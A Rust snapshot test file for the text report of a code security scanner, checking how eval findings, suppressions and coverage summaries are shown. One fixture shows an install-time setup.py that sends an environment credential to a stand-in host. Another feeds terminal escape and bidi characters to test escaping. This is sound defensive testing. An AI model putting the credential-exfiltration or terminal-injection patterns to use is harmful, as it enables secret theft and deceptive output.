//! What people see, piece by piece.

use crate::common::{Files, assemble, draft, finding, position};
use crate::sample;
use insta::assert_snapshot;
use laocoon_report::{
    Confidence, Coverage, Draft, Finding, Fix, Location, Partly, RejectedRule, RelatedLocation,
    RuleNotRun, RulesCoverage, Severity, Skipped, TextOptions, TraceStep, Unit, UnitKind,
    write_text,
};

fn render_with(draft: Draft<'_>, files: &Files, options: &TextOptions) -> String {
    let report = assemble(draft, files);
    let mut out = Vec::new();
    write_text(
        &mut out,
        &report,
        &|path, member| files.source(path, member),
        options,
    )
    .unwrap();
    String::from_utf8(out).unwrap()
}

fn render(draft: Draft<'_>, files: &Files) -> String {
    render_with(draft, files, &TextOptions::default())
}

/// The report on one finding, at the first `needle` in `text`.
fn one(text: &str, needle: &str) -> String {
    let mut files = Files::default();
    files.add("src/app.py", None, text);
    let location = files.place("src/app.py", None, needle);
    let report = render(draft(vec![finding("execution/eval", location)]), &files);
    // The end of the report is tested on its own.
    let (finding, _) = report.split_once("\n1 finding").unwrap();
    finding.to_owned()
}

#[test]
fn one_line() {
    let text = "import os\n\ndef run(code):\n    return eval(code)\n";
    assert_snapshot!(one(text, "eval(code)"), @r"
    error[execution/eval]: Something bad was found
     --> src/app.py:4:12
      |
    4 |     return eval(code)
      |            ^^^^^^^^^^
      |
      = severity: high, confidence: high, evidence: pattern
    ");
}

#[test]
fn indented_with_tabs() {
    assert_snapshot!(one("if x:\n\t\teval(\tcode)\n", "eval(\tcode)"), @r"
    error[execution/eval]: Something bad was found
     --> src/app.py:2:3
      |
    2 |         eval(    code)
      |         ^^^^^^^^^^^^^^
      |
      = severity: high, confidence: high, evidence: pattern
    ");
}

#[test]
fn wide_and_combining_characters() {
    assert_snapshot!(one("名前 = 'e\u{301}'; eval(入力) # 終\n", "eval(入力)"), @r"
    error[execution/eval]: Something bad was found
     --> src/app.py:1:12
      |
    1 | 名前 = 'é'; eval(入力) # 終
      |             ^^^^^^^^^^
      |
      = severity: high, confidence: high, evidence: pattern
    ");
}

#[test]
fn several_lines() {
    assert_snapshot!(one("x = eval(\n    a,\n    b)\n", "eval(\n    a,\n    b)"), @r"
    error[execution/eval]: Something bad was found
     --> src/app.py:1:5
      |
    1 |   x = eval(
      |  _____^
    2 | |     a,
    3 | |     b)
      | |______^
      |
      = severity: high, confidence: high, evidence: pattern
    ");
}

#[test]
fn several_lines_with_windows_line_ends() {
    assert_snapshot!(one("x = eval(\r\n    a)\r\n", "eval(\r\n    a)\r\n"), @r"
    error[execution/eval]: Something bad was found
     --> src/app.py:1:5
      |
    1 |   x = eval(
      |  _____^
    2 | |     a)
      | |______^
      |
      = severity: high, confidence: high, evidence: pattern
    ");
}

#[test]
fn a_dozen_lines_are_folded() {
    let text = format!("x = eval(\n{})\n", "    1 +\n".repeat(12));
    assert_snapshot!(one(&text, text.trim_end().trim_start_matches("x = ")), @r"
    error[execution/eval]: Something bad was found
      --> src/app.py:1:5
       |
     1 |   x = eval(
       |  _____^
     2 | |     1 +
     3 | |     1 +
     4 | |     1 +
    ...  |
    13 | |     1 +
    14 | | )
       | |_^
       |
       = severity: high, confidence: high, evidence: pattern
    ");
}

#[test]
fn thousands_of_lines_are_shown_by_the_first() {
    let text = format!("x = eval(\n{})\n", "    1 +\n".repeat(5_000));
    assert_snapshot!(one(&text, text.trim_end().trim_start_matches("x = ")), @r"
    error[execution/eval]: Something bad was found
     --> src/app.py:1:5
      |
    1 | x = eval(
      |     ^^^^^ and on, to line 5002
      |
      = severity: high, confidence: high, evidence: pattern
    ");
}

#[test]
fn a_line_of_100_kilobytes_is_cut_around_the_place() {
    let many = "aaaa=1234;".repeat(5_000);
    let text = format!("{many}eval(code);{many}");
    assert_snapshot!(one(&text, "eval(code)"), @r"
    error[execution/eval]: Something bad was found
     --> src/app.py:1:50001
      |
    1 | ... aaaa=1234;aaaa=1234;aaaa=1234;eval(code);aaaa=1234;aaaa=1234;aaaa=1234;aaaa=1234;aaaa=1234;aaaa=1234;aaaa=1234;aaaa=1234 ...
      |                                   ^^^^^^^^^^
      |
      = severity: high, confidence: high, evidence: pattern
    ");
}

#[test]
fn a_match_of_100_kilobytes_is_cut() {
    let text = format!("x = eval('{}')", "abcdefghij".repeat(10_000));
    assert_snapshot!(one(&text, &text[4..]), @r"
    error[execution/eval]: Something bad was found
     --> src/app.py:1:5
      |
    1 | x = eval('abcdefghijabcdefghijabcdefghijabcdefghijabcdefghijabcdefghijabcdefghijabcdefghijabcdefghijabcdefghijabcdefghij ...
      |     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
      |
      = severity: high, confidence: high, evidence: pattern
    ");
}

#[test]
fn code_pushed_off_screen_is_shown() {
    let text = format!("x = 1;{}eval(code)\n", " ".repeat(300));
    assert_snapshot!(one(&text, "eval(code)"), @r"
    error[execution/eval]: Something bad was found
     --> src/app.py:1:307
      |
    1 | ...                                                                                                               eval(code)
      |                                                                                                                   ^^^^^^^^^^
      |
      = severity: high, confidence: high, evidence: pattern
    ");
}

#[test]
fn controls_and_invisible_characters_in_the_source() {
    let text =
        "/*\u{202e} }\u{2066}if x\u{2069} */ eval(\u{200b}c)\u{1b}[2J\u{9b}1m\u{7}\rz\u{feff}\n";
    assert_snapshot!(one(text, "eval(\u{200b}c)"), @r"
    error[execution/eval]: Something bad was found
     --> src/app.py:1:16
      |
    1 | /*\u{202e} }\u{2066}if x\u{2069} */ eval(\u{200b}c)\u{1b}[2J\u{9b}1m\u{7}\u{d}z\u{feff}
      |                                     ^^^^^^^^^^^^^^^
      |
      = severity: high, confidence: high, evidence: pattern
    ");
}

#[test]
fn controls_in_everything_else() {
    let mut files = Files::default();
    files.add("a\u{1b}[31m\n.py", None, "eval(x)");
    let mut bad = finding(
        "execution/eval\u{202e}",
        files.place("a\u{1b}[31m\n.py", None, "eval(x)"),
    );
    bad.message = "Says\u{1b}]8;;http://x\u{7}\nerror[fake]: not\u{9b}0m this".to_owned();
    bad.why = Some("one\u{202e}\ntwo\u{1b}[1A".to_owned());
    bad.remediation = Some("do\u{7f}".to_owned());
    bad.cwe = vec!["CWE\u{8}".to_owned()];
    bad.references = vec!["http://\u{1b}".to_owned()];
    bad.fix = Some(Fix {
        replacement: "\u{1b}c".to_owned(),
        start: bad.location.start,
        end: bad.location.end,
    });
    bad.related = vec![RelatedLocation {
        location: bad.location.clone(),
        note: "note\u{1b}\nx".to_owned(),
    }];
    let mut draft = draft(vec![bad]);
    draft.units = vec![
        Unit::new("\u{1b}u", UnitKind::Tree, true),
        Unit::new("v\n", UnitKind::Run, true),
    ];
    let skipped = |path: &str| Skipped {
        path: path.to_owned(),
        member: Some("m\u{1b}".to_owned()),
        reason: "too\u{1b}".to_owned(),
        detail: Some("d\nd\u{200b}".to_owned()),
    };
    draft.coverage.skipped = vec![skipped("s\u{1b}")];
    draft.coverage.ignored_directories = vec!["i\u{1b}".to_owned()];
    let report = render(draft, &files);
    let is_shown = |c: char| c == '\n' || !(c.is_control() || c == '\u{202e}' || c == '\u{200b}');
    assert!(report.chars().all(is_shown), "{report:?}");
    assert_snapshot!(report, @r"
    error[execution/eval\u{202e}]: Says\u{1b}]8;;http://x\u{7} error[fake]: not\u{9b}0m this
     --> a\u{1b}[31m\u{a}.py:1:1
      |
    1 | eval(x)
      | ^^^^^^^
      |
      = severity: high, confidence: high, evidence: pattern, CWE\u{8}
      = why: one\u{202e}
             two\u{1b}[1A
      = help: do\u{7f}
      = fix: replace it with `\u{1b}c`
      = see: http://\u{1b}
    note: note\u{1b} x
     --> a\u{1b}[31m\u{a}.py:1:1
      |
    1 | eval(x)
      | ^^^^^^^

    1 finding: 1 high
    1 of 1 file analysed
    not analysed, too\u{1b}: s\u{1b}!m\u{1b} (d d\u{200b})
    ignored folders: i\u{1b}
    0 rules loaded
    \u{1b}u: block
    v\u{a}: pass
    verdict: block
    ");
}

#[test]
fn everything_there_is_to_say_of_a_finding() {
    let files = sample::files();
    let finding = sample::full_finding(&files);
    assert_snapshot!(render(draft(vec![finding]), &files), @r"
    error[exfiltration/environment-to-network]: A credential from the environment is sent over the network
     --> dist/x 1.0.tar.gz!x-1.0/setup.py:6:1
      |
    6 | requests.post('http://x', data)
      | ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
      |
      = severity: critical, confidence: high, evidence: flow, CWE-506: Embedded malicious code
      = why: It runs when the package is installed,
             before any of its code is read.
      = help: Remove the call
      = flow: 1. read here, line 3: key = os.environ['KEY']
              2. put into a dictionary, line 4: data = {'k': key}
              3. sent here, line 6: requests.post('http://x', data)
      = fix: remove it
      = see: https://example.org/a
    note: imported here
     --> dist/x 1.0.tar.gz!x-1.0/setup.py:1:12
      |
    1 | import os, requests
      |            ^^^^^^^^

    1 finding: 1 critical
    1 of 1 file analysed
    0 rules loaded
    verdict: block
    ");
}

#[test]
fn long_traces_are_shown_by_their_ends() {
    let files = sample::files();
    let mut finding = sample::full_finding(&files);
    let step = finding.trace[0].clone();
    finding.trace = (1..=1_000)
        .map(|n| TraceStep {
            note: format!("n{n}"),
            ..step.clone()
        })
        .collect();
    let report = render(draft(vec![finding]), &files);
    let lines = report
        .lines()
        .map(str::trim)
        .map(|line| line.trim_start_matches("= flow: "));
    let steps: Vec<&str> = lines
        .filter(|line| line.contains(". n") || line.contains("more steps"))
        .map(|line| line.split(", line 3").next().unwrap_or_default())
        .collect();
    assert_snapshot!(steps.join("\n"), @r"
    1. n1
    2. n2
    3. n3
    4. n4
    992 more steps are not shown
    997. n997
    998. n998
    999. n999
    1000. n1000
    ");
}

#[test]
fn severity_decides_the_header_and_the_worst_comes_first() {
    let mut files = Files::default();
    files.add("a.py", None, "eval(x)");
    let severities = [
        Severity::Low,
        Severity::Medium,
        Severity::High,
        Severity::Critical,
    ];
    let findings = severities.into_iter().map(|severity| Finding {
        severity,
        confidence: Confidence::Low,
        ..finding(severity.as_str(), files.place("a.py", None, "eval(x)"))
    });
    let report = render(draft(findings.collect()), &files);
    let headers = |line: &&str| {
        line.contains("]: ") || line.contains("severity") || line.contains("findings")
    };
    let headers: Vec<&str> = report.lines().filter(headers).collect();
    assert_snapshot!(headers.join("\n"), @r"
    error[critical]: Something bad was found
      = severity: critical, confidence: low, evidence: pattern
    error[high]: Something bad was found
      = severity: high, confidence: low, evidence: pattern
    warning[medium]: Something bad was found
      = severity: medium, confidence: low, evidence: pattern
    note[low]: Something bad was found
      = severity: low, confidence: low, evidence: pattern
    4 findings: 1 critical, 1 high, 1 medium, 1 low
    ");
}

#[test]
fn what_a_rule_says_of_all_its_findings_is_said_once() {
    let mut files = Files::default();
    files.add("a.py", None, "eval(x)\neval(y)\n");
    let of = |needle, why: &str| Finding {
        why: Some(why.to_owned()),
        ..finding("execution/eval", files.place("a.py", None, needle))
    };
    let count = |one: &str, other: &str| {
        let findings = vec![of("eval(x)", one), of("eval(y)", other)];
        render(draft(findings), &files).matches("why: ").count()
    };
    assert_eq!(count("same", "same"), 1);
    assert_eq!(count("one", "other"), 2);
}

#[test]
fn without_source_the_place_is_named() {
    let place = position("x\nyy", 3);
    let bad = finding("execution/eval", Location::new("gone.py", place, place));
    assert_snapshot!(render(draft(vec![bad]), &Files::default()), @r"
    error[execution/eval]: Something bad was found
    --> gone.py:2:2
     = severity: high, confidence: high, evidence: pattern

    1 finding: 1 high
    1 of 1 file analysed
    0 rules loaded
    verdict: block
    ");
}

#[test]
fn suppressed_findings_are_counted_and_shown_on_demand() {
    let mut files = Files::default();
    files.add(
        "a.py",
        None,
        "# laocoon: allow execution/eval -- of a constant\neval('1')\neval(x) # nosemgrep\n",
    );
    let findings = || {
        vec![
            finding("execution/eval", files.place("a.py", None, "eval('1')")),
            finding("execution/eval", files.place("a.py", None, "eval(x)")),
        ]
    };
    assert_snapshot!(render(draft(findings()), &files), @r"
    no findings (not counted: 2 suppressed)
    1 of 1 file analysed
    0 rules loaded
    verdict: pass
    ");
    let options = TextOptions {
        show_suppressed: true,
        ..TextOptions::default()
    };
    assert_snapshot!(render_with(draft(findings()), &files, &options), @r"
    error[execution/eval]: Something bad was found
     --> a.py:2:1
      |
    2 | eval('1')
      | ^^^^^^^^^
      |
      = severity: high, confidence: high, evidence: pattern
    note: suppressed here: of a constant
     --> a.py:1:3
      |
    1 | # laocoon: allow execution/eval -- of a constant
      |   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^

    error[execution/eval]: Something bad was found
     --> a.py:3:1
      |
    3 | eval(x) # nosemgrep
      | ^^^^^^^
      |
      = severity: high, confidence: high, evidence: pattern
    note: suppressed here
     --> a.py:3:11
      |
    3 | eval(x) # nosemgrep
      |           ^^^^^^^^^

    no findings (not counted: 2 suppressed)
    1 of 1 file analysed
    0 rules loaded
    verdict: pass
    ");
}

#[test]
fn a_suppression_without_a_reason_is_not_obeyed_and_that_is_said() {
    let mut files = Files::default();
    files.add("a.py", None, "eval(x)  # laocoon: allow execution/eval\n");
    let bad = finding("execution/eval", files.place("a.py", None, "eval(x)"));
    assert_snapshot!(render(draft(vec![bad]), &files), @r"
    error[execution/eval]: Something bad was found
     --> a.py:1:1
      |
    1 | eval(x)  # laocoon: allow execution/eval
      | ^^^^^^^
      |
      = severity: high, confidence: high, evidence: pattern

    warning: this `laocoon: allow` has no reason and is not obeyed; write `laocoon: allow <rule> -- <reason>`
    --> a.py:1

    1 finding: 1 high
    1 of 1 file analysed
    0 rules loaded
    verdict: block
    ");
}

#[test]
fn no_findings_and_everything_was_read() {
    assert_snapshot!(render(draft(Vec::new()), &Files::default()), @r"
    no findings
    1 of 1 file analysed
    0 rules loaded
    verdict: pass
    ");
}

#[test]
fn no_findings_but_not_everything_was_read() {
    let skipped = |path: &str, reason: &str, detail: Option<&str>| Skipped {
        path: path.to_owned(),
        member: None,
        reason: reason.to_owned(),
        detail: detail.map(str::to_owned),
    };
    let mut draft = draft(Vec::new());
    draft.units = vec![
        Unit::new("src", UnitKind::Tree, true),
        Unit::new("x.whl", UnitKind::Package, false),
    ];
    let binaries = (1..=7).map(|n| skipped(&format!("b{n}.bin"), "binary", None));
    draft.coverage = Coverage {
        files: 1_234,
        analysed: 1_225,
        skipped: std::iter::once(skipped("big.js", "too-large", Some("12.5 MB")))
            .chain(binaries)
            .collect(),
        partly: vec![Partly {
            path: "x.whl".to_owned(),
            member: Some("x/a.py".to_owned()),
            reason: "syntax-error".to_owned(),
            lines: vec![
                laocoon_report::LineRange { first: 3, last: 9 },
                laocoon_report::LineRange {
                    first: 12,
                    last: 12,
                },
            ],
        }],
        ignored_directories: vec!["node_modules".to_owned(), ".git".to_owned()],
        rules: RulesCoverage {
            loaded: 812,
            rejected: vec![RejectedRule {
                id: "my-rule".to_owned(),
                reason: "invalid regular expression".to_owned(),
                path: Some("rules.yaml".to_owned()),
                line: Some(7),
            }],
            not_run: vec![RuleNotRun {
                id: "other".to_owned(),
                reason: "language `ocaml` is not supported".to_owned(),
            }],
        },
        ..Coverage::default()
    };
    assert_snapshot!(render(draft, &Files::default()), @r"
    no findings
    1225 of 1234 files analysed
    not analysed, binary: b1.bin, b2.bin, b3.bin, b4.bin, b5.bin and 2 more
    not analysed, too-large: big.js (12.5 MB)
    analysed in part, syntax-error: x.whl!x/a.py (lines 3 to 9 and more)
    ignored folders: .git, node_modules
    812 rules loaded
    1 rule not valid: my-rule (invalid regular expression)
    1 rule not run: other (language `ocaml` is not supported)
    src: pass
    x.whl: review (not all of it was read)
    verdict: review (not everything was read)
    ");
}

#[test]
fn colours_repeat_what_the_words_say() {
    let mut files = Files::default();
    files.add("a.py", None, "eval(x)\n");
    let bad = || finding("execution/eval", files.place("a.py", None, "eval(x)"));
    let plain = render(draft(vec![bad()]), &files);
    let options = TextOptions {
        colour: true,
        ..TextOptions::default()
    };
    let coloured = render_with(draft(vec![bad()]), &files, &options);
    assert_ne!(plain, coloured);
    let mut rest = coloured.as_str();
    let mut words = String::new();
    while let Some((before, after)) = rest.split_once("\u{1b}[") {
        words.push_str(before);
        rest = after.split_once('m').expect("only colours are written").1;
    }
    words.push_str(rest);
    assert_eq!(plain, words);
}
